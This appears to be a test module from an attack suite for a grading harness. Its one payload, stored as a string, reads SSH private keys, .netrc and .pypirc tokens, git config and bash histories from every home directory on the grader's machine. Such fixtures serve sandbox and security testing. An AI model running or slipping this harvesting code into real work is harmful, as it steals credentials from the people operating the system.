"""Reads keys, tokens and histories from the home folder of whoever grades."""

from __future__ import annotations

from tests.attacks.attack import NO_MARKS, TELL, Attack

FIRST = """
import os
loot = []
others = ["/home/" + name for name in (os.listdir("/home") if os.path.isdir("/home") else ())]
for home in {os.path.expanduser("~"), os.path.expanduser("~root"), os.environ.get("HOME", "/"), *others}:
    for name in (".netrc", ".ssh/id_rsa", ".bash_history", ".gitconfig", ".pypirc"):
        try:
            loot.append(open(os.path.join(home, name)).read())
        except OSError:
            pass
"""
ATTACK = Attack(first=FIRST, answers=TELL, no_stock=NO_MARKS)
